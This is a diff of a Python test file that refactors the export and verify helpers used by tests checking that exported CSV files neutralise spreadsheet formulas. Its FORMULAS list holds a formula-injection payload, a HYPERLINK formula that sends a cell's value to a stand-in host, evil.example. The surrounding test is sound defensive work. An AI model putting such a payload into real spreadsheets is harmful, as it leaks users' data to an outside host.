@@ -16,9 +16,9 @@ from reviews.formats.reference import (
 )
 from reviews.models import Role
 from reviews.services.approval import approval_record
+from tests.builders import export_all, verify
 from tests.factories import PASSWORD, member
 from tests.reviews.test_formats_reference import reference
-from tests.reviews.test_trust_chain import _export_all, _verify
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
@@ -66,11 +66,11 @@ def test_an_approved_formula_exports_as_text_and_still_verifies(
     approval_record(
         actor=member(project, Role.APPROVER), item=item, password=PASSWORD, confirmed=True
     )
-    folder = _export_all(project, tmp_path)
+    folder = export_all(project, tmp_path)
     csv_file = folder / f"{project.slug}-ground-truth.csv"
     cells = _cells(csv_file.read_bytes())
     assert FORMULAS[0] not in cells and not any(c.startswith(RISKY) for c in cells)
-    ok, out = _verify(csv_file)
+    ok, out = verify(csv_file)
     assert ok and "OK   =case-1" in out, out
 
 
@@ -82,8 +82,8 @@ def test_case_ids_that_clean_to_one_name_export_to_two_files(project, review_ite
         for r in (1, 2):
             rate(member(project, Role.RATER, username=f"r{n}{r}"), item, {"$.total": "12"})
         approval_record(actor=approver, item=item, password=PASSWORD, confirmed=True)
-    folder = _export_all(project, tmp_path)
+    folder = export_all(project, tmp_path)
     references = sorted(p.name for p in folder.glob("*.reference.json"))
     assert len(references) == 2 and "a_b.reference.json" in references
-    ok, out = _verify(folder)
+    ok, out = verify(folder)
     assert ok and "OK   a/b" in out and "OK   a_b" in out, out
